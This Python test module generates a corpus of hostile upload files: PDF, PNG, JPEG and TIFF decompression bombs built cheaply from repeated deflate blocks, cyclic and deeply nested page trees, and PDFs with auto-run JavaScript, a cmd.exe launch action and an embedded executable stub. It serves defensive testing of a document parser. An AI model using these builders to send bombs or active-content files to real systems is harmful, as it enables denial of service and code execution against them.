"""A generated corpus of hostile uploads: each builder returns the bytes of one attack.

The files are written from raw bytes (PDF objects, PNG chunks, TIFF tags, deflate blocks), not
through a library that would refuse to write them, and are cheap to build: the 1.2 GB deflate
bombs are assembled from identical full-flush blocks instead of compressing 1.2 GB.
"""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable, Sequence

from PIL import Image

MIB = 1 << 20


def deflate_run(byte: bytes, mib: int, prefix: bytes = b"") -> bytes:
    """Return a zlib stream of ``prefix`` then ``mib`` MiB of ``byte`` (about 1 KB per MiB)."""
    chunk = byte * MIB
    packer = zlib.compressobj(9)
    head = packer.compress(prefix) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    # Adler-32 of the prefix followed by n copies of one byte value v, in closed form.
    a, b = zlib.adler32(prefix) & 0xFFFF, zlib.adler32(prefix) >> 16
    n, v = mib * MIB, byte[0]
    a, b = (a + n * v) % 65521, (b + n * a + v * n * (n + 1) // 2) % 65521
    adler = (b << 16) | a
    # After a full flush every further MiB compresses to the same bytes; an empty final block
    # (fixed Huffman: 0x03 0x00) and the Adler-32 of the whole run end the stream.
    return head + block * mib + b"\x03\x00" + struct.pack(">I", adler)


def pdf(objects: Sequence[bytes], *, trailer: bytes = b"", xref_shift: int = 0) -> bytes:
    """Write objects 1..n (object 1 the catalog) with a classic xref table.

    ``xref_shift`` moves every offset in the table by that many bytes (the file stays the same).
    """
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % (offset + xref_shift) for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer,
        xref,
    )
    return bytes(out)


def stream(entries: bytes, data: bytes) -> bytes:
    """Return a stream object body: ``<< entries /Length n >>`` and the raw data."""
    return b"<< %s /Length %d >>\nstream\n" % (entries, len(data)) + data + b"\nendstream"


TEXT = b"BT /F1 14 Tf 72 760 Td (NOMOR INDUK BERUSAHA 1234567890123 PT MAJU JAYA) Tj ET"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def text_pdf(
    catalog_extra: bytes = b"", page_extra: bytes = b"", more: Sequence[bytes] = ()
) -> bytes:
    """One A4 page with a text layer; objects 5.. are ``more``."""
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R %s>>" % catalog_extra,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /Font << /F1 6 0 R >> >> %s>>" % page_extra,
            stream(b"", TEXT),
            b"<< >>",
            FONT,
            *more,
        ]
    )


def huge_media_box() -> bytes:
    """A 14,400 pt page with /UserUnit 75000 (about 15,000 km wide), grey, no text layer."""
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 14400 14400] /UserUnit 75000 "
            b"/Contents 4 0 R /Resources << >> >>",
            stream(b"", b"0.5 g 0 0 14400 14400 re f 0 g 100 100 5000 300 re f"),
        ]
    )


def big_media_box() -> bytes:
    """A 14,400 pt square page (5 m) without /UserUnit: legal, rendered scaled down."""
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 14400 14400] "
            b"/Contents 4 0 R /Resources << >> >>",
            stream(b"", b"0.5 g 0 0 14400 14400 re f"),
        ]
    )


def _bomb_page(content: bytes, filters: bytes) -> bytes:
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << >> >>",
            stream(b"/Filter " + filters, content),
        ]
    )


def flate_bomb(mib: int = 1200) -> bytes:
    """A content stream of ``mib`` MiB of spaces behind one FlateDecode (about 1.2 MB)."""
    return _bomb_page(deflate_run(b" ", mib), b"/FlateDecode")


def nested_flate_bomb(mib: int = 1200) -> bytes:
    """The same content deflated twice, ``[/FlateDecode /FlateDecode]``: 2 KB to 1.2 GB."""
    return _bomb_page(zlib.compress(deflate_run(b" ", mib), 9), b"[/FlateDecode /FlateDecode]")


def image_stream_bomb(mib: int = 1200) -> bytes:
    """A 1000 x 1000 grey image whose Flate data inflates to 1.2 GB (declared: 1 MB)."""
    data = zlib.compress(deflate_run(b"\x80", mib), 9)
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /XObject << /Im0 5 0 R >> >> >>",
            stream(b"", b"q 595 0 0 842 0 0 cm /Im0 Do Q"),
            stream(
                b"/Type /XObject /Subtype /Image /Width 1000 /Height 1000 /ColorSpace "
                b"/DeviceGray /BitsPerComponent 8 /Filter [/FlateDecode /FlateDecode]",
                data,
            ),
        ]
    )


def object_stream_bomb(mib: int = 1200) -> bytes:
    """The page dictionary inside an object stream that inflates to 1.2 GB (2 KB in the file)."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
    data = zlib.compress(deflate_run(b" ", mib, prefix=b"3 0 " + page), 9)
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            stream(b"/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]", data),
        ]
    )


def many_pages(count: int = 2000) -> bytes:
    """``count`` empty A4 pages."""
    first = 3
    kids = b" ".join(b"%d 0 R" % (first + i) for i in range(count))
    pages = [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"] * count
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
            *pages,
        ]
    )


def cyclic_page_tree() -> bytes:
    """A page tree whose root lists itself among its kids (next to one real page)."""
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 3 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R "
            b"/Resources << /Font << /F1 6 0 R >> >> >>",
            b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 2 >>",
            stream(b"", TEXT),
            FONT,
        ]
    )


def deep_page_tree(levels: int = 100_000) -> bytes:
    """A chain of ``levels`` /Pages nodes, each the only kid of the one above, then a page."""
    nodes = [
        b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (number + 1)
        for number in range(2, levels + 2)
    ]
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            *nodes,
            b"<< /Type /Page /MediaBox [0 0 595 842] /Contents %d 0 R "
            b"/Resources << /Font << /F1 %d 0 R >> >> >>" % (levels + 3, levels + 4),
            stream(b"", TEXT),
            FONT,
        ]
    )


def deep_nesting(levels: int = 100_000) -> bytes:
    """A text page whose dictionary holds an array nested ``levels`` deep."""
    return text_pdf(page_extra=b"/PieceInfo " + b"[" * levels + b"]" * levels + b" ")


def open_action_javascript() -> bytes:
    """A text page that runs JavaScript when opened."""
    return text_pdf(b"/OpenAction << /S /JavaScript /JS (app.alert\\('hai'\\)) >> ")


def hidden_javascript() -> bytes:
    """JavaScript in the names tree, its names spelt with #xx escapes (/J#61vaScript)."""
    return text_pdf(
        b"/Names << /J#61vaScript 7 0 R >> ",
        more=[b"<< /Names [(a) << /S /JavaScript /J#53 (this.print\\(\\)) >>] >>"],
    )


def launch_action() -> bytes:
    """A text page whose open action launches a program."""
    return text_pdf(b"/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >> >> ")


def page_additional_actions() -> bytes:
    """A page with an /AA (additional actions) dictionary that runs JavaScript on open."""
    return text_pdf(page_extra=b"/AA << /O << /S /JavaScript /JS (1) >> >> ")


def rich_media() -> bytes:
    """A page with a /RichMedia annotation (embedded Flash or video)."""
    return text_pdf(page_extra=b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>] ")


def xfa_form() -> bytes:
    """An AcroForm carrying an XFA form (XML forms with scripts)."""
    return text_pdf(b"/AcroForm << /Fields [] /XFA 7 0 R >> ", more=[stream(b"", b"<xdp:xdp/>")])


def embedded_exe() -> bytes:
    """A text page with an attached Windows program, ``setup.exe``."""
    exe = b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode."
    return text_pdf(
        b"/Names << /EmbeddedFiles << /Names [(setup.exe) 7 0 R] >> >> ",
        more=[
            b"<< /Type /Filespec /F (setup.exe) /UF (setup.exe) /EF << /F 8 0 R >> >>",
            stream(b"/Type /EmbeddedFile /Subtype /application#2Foctet-stream", exe),
        ],
    )


def shifted_xref() -> bytes:
    """A readable text page whose xref offsets all point 7 bytes too far."""
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
            stream(b"", TEXT),
            FONT,
        ],
        xref_shift=7,
    )


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(side: int = 100_000) -> bytes:
    """A 1-bit PNG of ``side`` x ``side`` px (10 Gpx) whose rows inflate from about 1.3 MB."""
    ihdr = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    rows = (side + 7) // 8 + 1
    data = deflate_run(b"\x00", max(1, side * rows // MIB // 64))  # the first rows only
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", data)
        + _png_chunk(b"IEND", b"")
    )


def jpeg_bomb(side: int = 65_000) -> bytes:
    """A small JPEG whose frame header declares ``side`` x ``side`` px."""
    buf = io.BytesIO()
    Image.new("L", (16, 16), 200).save(buf, format="JPEG")
    data = bytearray(buf.getvalue())
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", side, side)
    return bytes(data)


def _tiff(entries: list[tuple[int, int, int]], strip: bytes) -> bytes:
    """A little-endian TIFF with one IFD (tag, type, value) and one strip after it."""
    ifd_at = 8
    strip_at = ifd_at + 2 + 12 * (len(entries) + 2) + 4
    tags = sorted([*entries, (273, 4, strip_at), (279, 4, len(strip))])
    out = bytearray(b"II*\x00" + struct.pack("<I", ifd_at))
    out += struct.pack("<H", len(tags))
    for tag, kind, value in tags:
        out += struct.pack("<HHII", tag, kind, 1, value)
    out += struct.pack("<I", 0)
    return bytes(out + strip)


def tiff_bomb(side: int = 100_000) -> bytes:
    """A grey TIFF declaring ``side`` x ``side`` px (10 Gpx), one Deflate strip."""
    entries = [
        (256, 4, side),
        (257, 4, side),
        (258, 3, 8),
        (259, 3, 8),
        (262, 3, 1),
        (278, 4, side),
    ]
    return _tiff(entries, deflate_run(b"\xff", 8))


def many_frame_tiff(frames: int = 500) -> bytes:
    """A TIFF of ``frames`` 8 x 8 px pages."""
    buf = io.BytesIO()
    first = Image.new("L", (8, 8), 255)
    first.save(buf, format="TIFF", save_all=True, append_images=[first] * (frames - 1))
    return buf.getvalue()


def truncated_png() -> bytes:
    """The first half of a real PNG."""
    buf = io.BytesIO()
    Image.effect_noise((400, 300), 60).save(buf, format="PNG")
    return buf.getvalue()[: len(buf.getvalue()) // 2]


def truncated_tiff() -> bytes:
    """A TIFF whose strip runs past the end of the file."""
    buf = io.BytesIO()
    Image.effect_noise((400, 300), 60).save(buf, format="TIFF")
    return buf.getvalue()[: len(buf.getvalue()) // 2]


def xref_stream_bomb(mib: int = 1200) -> bytes:
    """A text page whose cross-reference stream inflates to 1.2 GB (pdfium reads it at open)."""
    body = text_pdf()
    cut = body.rindex(b"xref\n")
    rows = deflate_run(b"\x00", mib)
    xref = (
        b"7 0 obj\n"
        + stream(
            b"/Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Filter [/FlateDecode /FlateDecode]",
            zlib.compress(rows, 9),
        )
        + b"\nendobj\n"
    )
    return body[:cut] + xref + b"startxref\n%d\n%%%%EOF\n" % cut


CORPUS: dict[str, Callable[[], bytes]] = {
    "huge-media-box.pdf": huge_media_box,
    "big-media-box.pdf": big_media_box,
    "flate-bomb.pdf": flate_bomb,
    "nested-flate-bomb.pdf": nested_flate_bomb,
    "image-stream-bomb.pdf": image_stream_bomb,
    "object-stream-bomb.pdf": object_stream_bomb,
    "xref-stream-bomb.pdf": xref_stream_bomb,
    "many-pages.pdf": many_pages,
    "cyclic-page-tree.pdf": cyclic_page_tree,
    "deep-page-tree.pdf": deep_page_tree,
    "deep-nesting.pdf": deep_nesting,
    "open-action-javascript.pdf": open_action_javascript,
    "hidden-javascript.pdf": hidden_javascript,
    "launch-action.pdf": launch_action,
    "page-additional-actions.pdf": page_additional_actions,
    "rich-media.pdf": rich_media,
    "xfa-form.pdf": xfa_form,
    "embedded-exe.pdf": embedded_exe,
    "shifted-xref.pdf": shifted_xref,
    "png-bomb.png": png_bomb,
    "jpeg-bomb.jpg": jpeg_bomb,
    "tiff-bomb.tif": tiff_bomb,
    "many-frames.tif": many_frame_tiff,
    "truncated.png": truncated_png,
    "truncated.tif": truncated_tiff,
}
"""Every hostile file by name (the name's extension is what an attacker would call it)."""
